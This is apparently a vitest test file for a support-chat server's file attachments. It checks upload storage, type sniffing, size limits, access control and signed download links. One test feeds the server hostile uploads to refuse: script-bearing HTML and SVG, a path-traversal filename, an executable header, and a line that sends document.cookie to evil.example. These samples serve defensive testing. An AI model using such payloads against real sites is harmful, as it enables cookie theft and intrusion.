import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ChatMessage, FileLinkResponse } from '../../../sdk/core/protocol.ts';
import { askAgent, askCustomer, nextWhere, unwrap, useTestServer } from '../../testing/testServer.ts';
import { createLinkSigner } from './signedLinks.ts';
import { acceptedChat, customer, getJson, PNG, tokenSecretOf, upload } from './sharingTestKit.ts';

const getServer = useTestServer({ offerTimeoutMs: 5000, maxUploadBytes: 4096 });

const text = (value: string) => Buffer.from(value);

describe('attachments', () => {
  it('stores an upload under a random id, posts a file message to both sides, and serves it by a signed link', async () => {
    const server = getServer();
    const { c, a, chat } = await acceptedChat(server);
    // The "agent joined" line may still be on its way to either side: wait for the file's message.
    const isFile = (m: ChatMessage) => m.kind === 'file';
    const toAgent = nextWhere<ChatMessage>(a.socket, 'chat:message', isFile);
    const toUploader = nextWhere<ChatMessage>(c.socket, 'chat:message', isFile);

    const answer = await upload(server, c.token, chat.id, PNG, '../../holiday.png');
    expect(answer.status).toBe(200);
    const { message } = answer.body;
    expect(message).toMatchObject({ kind: 'file', text: '_.._holiday.png', from: { role: 'customer' } });
    expect(message.file).toMatchObject({ name: '_.._holiday.png', size: PNG.length, type: 'image/png' });
    expect(message.file?.id).toMatch(/^[A-Za-z0-9_-]{24}$/);
    expect(await toAgent).toEqual(message);
    expect((await toUploader).seq).toBe(message.seq);
    expect(readdirSync(join(server.dataDir, 'files'))).toEqual([message.file?.id]);

    // History carries the file too (a reload, the other side's resync).
    const synced = unwrap(await askAgent(a.socket, 'chat:sync', { chatId: chat.id, afterSeq: 0 }));
    expect(synced.messages.at(-1)).toEqual(message);

    const link = await getJson<FileLinkResponse>(
      server,
      `/api/chats/${chat.id}/files/${message.file?.id}/link`,
      a.token,
    );
    expect(link.status).toBe(200);
    expect(link.body.expiresAt).toBeGreaterThan(Date.now());
    const file = await fetch(`${server.url}${link.body.path}`);
    expect(file.status).toBe(200);
    expect(Buffer.from(await file.arrayBuffer())).toEqual(PNG);
    expect(file.headers.get('content-type')).toBe('image/png');
    expect(file.headers.get('content-disposition')).toMatch(/^inline; filename="_.._holiday.png"/);
    expect(file.headers.get('x-content-type-options')).toBe('nosniff');
    expect(file.headers.get('content-security-policy')).toContain('sandbox');
  });

  it('answers a retried upload with the stored message and keeps one file', async () => {
    const server = getServer();
    const { c, chat } = await acceptedChat(server);
    const first = await upload(server, c.token, chat.id, PNG, 'a.png', 'same-id');
    const again = await upload(server, c.token, chat.id, PNG, 'a.png', 'same-id');
    expect(again.status).toBe(200);
    expect(again.body.message).toEqual(first.body.message);
    expect(readdirSync(join(server.dataDir, 'files'))).toHaveLength(1);
  });

  it('sends PDFs and text as downloads with their sniffed type, whatever the name says', async () => {
    const server = getServer();
    const { c, a, chat } = await acceptedChat(server);
    const pdf = await upload(server, a.token, chat.id, text('%PDF-1.4\n%âãÏÓ\n'), 'invoice');
    expect(pdf.body.message.file).toMatchObject({ name: 'invoice.pdf', type: 'application/pdf' });
    const note = await upload(server, c.token, chat.id, text('Router serial: 1234\n'), 'serial.pdf');
    expect(note.body.message.file).toMatchObject({ name: 'serial.pdf.txt', type: 'text/plain' });

    const response = await fetch(`${server.url}/api/chats/${chat.id}/files/${note.body.message.file?.id}`, {
      headers: { authorization: `Bearer ${a.token}` },
    });
    expect(response.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="serial.pdf.txt"/);
    expect(await response.text()).toBe('Router serial: 1234\n');
  });

  it('refuses a file over the size limit with FILE_TOO_LARGE', async () => {
    const server = getServer();
    const { c, chat } = await acceptedChat(server);
    const big = Buffer.concat([PNG, Buffer.alloc(5000)]);
    const answer = await upload(server, c.token, chat.id, big, 'big.png');
    expect(answer.status).toBe(413);
    expect(answer.body.error).toMatchObject({ code: 'FILE_TOO_LARGE' });
    expect(readdirSync(server.dataDir)).not.toContain('files');
  });

  it('refuses by the bytes: HTML named .png, SVG, scripts and executables are FILE_TYPE', async () => {
    const server = getServer();
    const { c, chat } = await acceptedChat(server);
    const attempts: Array<[Buffer, string]> = [
      [text('<html><body><script>alert(document.cookie)</script></body></html>'), 'cat.png'],
      [text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'logo.svg'],
      [text('<?xml version="1.0"?><svg/>'), 'image.png'],
      [text('fetch("https://evil.example/" + document.cookie)'), 'notes.js'],
      [Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03]), 'setup.pdf'],
      [Buffer.concat([text('GIF89a'), text('<script>')]), 'anim.html'],
    ];
    for (const [bytes, name] of attempts) {
      const answer = await upload(server, c.token, chat.id, bytes, name);
      expect(answer.status, name).toBe(415);
      expect(answer.body.error?.code, name).toBe('FILE_TYPE');
    }
    const synced = unwrap(await askCustomer(c.socket, 'chat:sync', { chatId: chat.id, afterSeq: 0 }));
    expect(synced.messages.filter((m) => m.kind === 'file')).toEqual([]);
  });

  it('lets no one upload to or read from a chat that is not theirs, and nobody without a token', async () => {
    const server = getServer();
    const { c, chat } = await acceptedChat(server);
    const { message } = (await upload(server, c.token, chat.id, PNG, 'mine.png')).body;
    const stranger = await customer(server, 'Mallory');
    const fileId = message.file?.id ?? '';

    const intoTheirs = await upload(server, stranger.token, chat.id, PNG, 'x.png');
    expect([intoTheirs.status, intoTheirs.body.error?.code]).toEqual([404, 'NOT_FOUND']);
    const link = await getJson<unknown>(server, `/api/chats/${chat.id}/files/${fileId}/link`, stranger.token);
    expect(link.status).toBe(404);
    const direct = await fetch(`${server.url}/api/chats/${chat.id}/files/${fileId}`, {
      headers: { authorization: `Bearer ${stranger.token}` },
    });
    expect(direct.status).toBe(404);
    // Their own chat id does not unlock someone else's file either.
    const ownChat = unwrap(await askCustomer(stranger.socket, 'chat:start', { clientId: 's1' })).chat;
    const crossed = await getJson<unknown>(
      server,
      `/api/chats/${ownChat.id}/files/${fileId}/link`,
      stranger.token,
    );
    expect(crossed.status).toBe(404);

    const anonymous = await upload(server, null, chat.id, PNG, 'x.png');
    expect([anonymous.status, anonymous.body.error?.code]).toEqual([401, 'UNAUTHORIZED']);
    const forgedToken = await upload(server, `${c.token}x`, chat.id, PNG, 'x.png');
    expect(forgedToken.status).toBe(401);
  });

  it('refuses forged, altered and expired links', async () => {
    const server = getServer();
    const { c, chat } = await acceptedChat(server);
    const { message } = (await upload(server, c.token, chat.id, PNG, 'a.png')).body;
    const fileId = message.file?.id ?? '';
    const { body: link } = await getJson<FileLinkResponse>(
      server,
      `/api/chats/${chat.id}/files/${fileId}/link`,
      c.token,
    );
    const url = new URL(link.path, server.url);

    const later = new URL(url);
    later.searchParams.set('exp', String(Number(url.searchParams.get('exp')) + 3600_000));
    const forged = new URL(url);
    forged.searchParams.set('sig', 'A'.repeat(43));
    const expired = createLinkSigner(tokenSecretOf(server), 1000, () => Date.now() - 3600_000).sign(fileId);
    for (const attempt of [
      later.href,
      forged.href,
      `${server.url}/api/files/${fileId}`,
      `${server.url}${expired.path}`,
    ]) {
      const response = await fetch(attempt);
      expect(response.status, attempt).toBe(403);
      expect(((await response.json()) as { error: { code: string } }).error.code).toBe('FORBIDDEN');
    }
    expect((await fetch(url)).status).toBe(200);
  });

  it('refuses new files in an ended chat', async () => {
    const server = getServer();
    const { c, chat } = await acceptedChat(server);
    unwrap(await askCustomer(c.socket, 'chat:end', { chatId: chat.id }));
    const answer = await upload(server, c.token, chat.id, PNG, 'late.png');
    expect([answer.status, answer.body.error?.code]).toEqual([409, 'CONFLICT']);
  });
});
